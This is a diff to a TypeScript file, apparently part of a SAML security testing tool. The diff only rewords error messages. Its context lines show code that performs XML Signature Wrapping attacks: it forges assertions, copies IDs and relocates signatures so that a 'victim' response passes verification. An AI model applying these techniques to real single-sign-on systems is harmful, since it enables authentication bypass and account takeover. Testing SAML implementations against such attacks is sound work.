@@ -61,7 +61,7 @@ export const WRAPPINGS: readonly Wrapping[] = [
     signed: 'assertion',
     wrap: withAssertion(({ original, forged }) => {
       const extensions = original.ownerDocument?.createElementNS(SAMLP, 'samlp:Extensions');
-      if (!extensions) throw new Error('no document');
+      if (!extensions) throw new Error('There is no document.');
       original.parentNode?.insertBefore(extensions, original);
       extensions.appendChild(forged);
       forged.setAttribute('ID', original.getAttribute('ID') ?? '');
@@ -75,7 +75,7 @@ export const WRAPPINGS: readonly Wrapping[] = [
       signature.parentNode?.removeChild(signature);
       forged.insertBefore(signature, forged.firstChild?.nextSibling ?? null);
       const object = signature.ownerDocument?.createElementNS(DSIG, 'ds:Object');
-      if (!object) throw new Error('no document');
+      if (!object) throw new Error('There is no document.');
       signature.appendChild(object);
       object.appendChild(original);
     }),
@@ -86,13 +86,13 @@ type Parts = { original: Element; forged: Element; signature: Element };
 
 function first(root: Element, name: string): Element {
   const found = root.getElementsByTagNameNS('*', name)[0];
-  if (!found) throw new Error(`no ${name} in the response`);
+  if (!found) throw new Error(`The response has no ${name}.`);
   return found;
 }
 
 function parse(text: string): Element {
   const root = new DOMParser().parseFromString(text, 'text/xml').documentElement;
-  if (!root) throw new Error('no response');
+  if (!root) throw new Error('There is no response.');
   return root;
 }
 
@@ -123,7 +123,7 @@ function aroundResponse(place: 'inside' | 'before') {
     forge(first(root, 'Assertion'), victim);
     if (place === 'inside') {
       const object = signature.ownerDocument?.createElementNS(DSIG, 'ds:Object');
-      if (!object) throw new Error('no document');
+      if (!object) throw new Error('There is no document.');
       signature.appendChild(object);
       object.appendChild(original);
     } else {
